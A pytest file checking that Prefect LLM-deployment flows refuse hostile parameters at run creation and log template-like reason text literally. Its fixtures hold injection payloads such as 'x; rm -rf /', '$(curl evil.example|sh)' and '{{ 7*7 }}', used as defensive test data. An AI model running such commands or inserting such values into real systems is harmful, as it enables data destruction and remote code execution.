"""Hostile parameters through a real Prefect server: rejected when the run is created (as from the UI
or an automation), and a template-looking reason is logged literally. Nothing reaches the sandbox."""

from __future__ import annotations

import time

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import LogFilter, LogFilterFlowRunId
from prefect.exceptions import PrefectHTTPStatusError

from flows.redeploy import redeploy_llm
from flows.spin_down import teardown_llm
from flows.spin_up import serve_llm

pytestmark = pytest.mark.usefixtures("prefect_server")

HOSTILE_RUNS = [
    (serve_llm, {"stack": {"block_name": "x; rm -rf /"}}, "stack"),
    (serve_llm, {"stack": {"file": "stack.yaml\nextra: 1"}}, "stack"),
    (serve_llm, {"stack": {"block_name": "a", "file": "b.yaml"}, "keep_on_failure": "{{ 7*7 }}"}, "keep_on_failure"),
    (teardown_llm, {"stack": {"block_name": "my-stack"}, "reason": "x" * 100_000}, "reason"),
    (redeploy_llm, {"stack": {"block_name": "my-stack"}, "model_source": "$(curl evil.example|sh)"}, "model_source"),
    (redeploy_llm, {"stack": {"block_name": "my-stack"}, "model_source": "{{ event.payload }}"}, "model_source"),
    (redeploy_llm, {"stack": {"block_name": "my-stack"}, "model_source": ["a", "b"]}, "model_source"),
]


@pytest.fixture(scope="module")
def deployment_ids() -> dict[str, str]:
    """The three flows registered as deployments (no runner needed to create runs), schema enforced."""
    return {flow.name: flow.to_deployment(name="hostile-input", enforce_parameter_schema=True).apply()
            for flow in (serve_llm, teardown_llm, redeploy_llm)}


@pytest.mark.parametrize(("flow", "parameters", "field"), HOSTILE_RUNS)
def test_a_run_with_a_hostile_parameter_is_refused_at_creation_naming_the_field(deployment_ids, flow,
                                                                                 parameters, field):
    with get_client(sync_client=True) as client, pytest.raises(PrefectHTTPStatusError) as refused:
        client.create_flow_run_from_deployment(deployment_ids[flow.name], parameters=parameters)
    assert refused.value.response.status_code == 409
    assert field in refused.value.response.text


def test_a_template_or_shell_text_in_the_reason_is_logged_literally_and_touches_nothing(fast_sandbox):
    sandbox, stack = fast_sandbox
    reason = "{{ 7*7 }} ${HOME} $(id) %s %(x)s `id`"
    state = teardown_llm(stack=stack, reason=reason, return_state=True)
    assert state.is_completed()
    run_logs = LogFilter(flow_run_id=LogFilterFlowRunId(any_=[state.state_details.flow_run_id]))
    deadline, logs = time.monotonic() + 30, []
    while not any(reason in message for message in logs) and time.monotonic() < deadline:
        time.sleep(0.5)                       # logs reach the API asynchronously
        with get_client(sync_client=True) as client:
            logs = [log.message for log in client.read_logs(log_filter=run_logs)]
    assert any(reason in message for message in logs), logs
    assert [r for r in sandbox.requests() if r["method"] != "GET"] == []


@pytest.fixture
def fast_sandbox(tmp_path, monkeypatch):
    from flows.demo import demo_stack_file
    from flows.stack_ref import StackRef
    from sandbox.app import Sandbox
    from tasks.clock import TIME_SCALE_ENV, ScaledClock

    with Sandbox(time_scale=60, kubernetes=True, profile="fast") as sandbox:
        monkeypatch.setenv(TIME_SCALE_ENV, ScaledClock(60, anchor_epoch_s=sandbox.clock.anchor_epoch_s).to_env())
        yield sandbox, StackRef(file=str(demo_stack_file(sandbox.gke_url, tmp_path)))
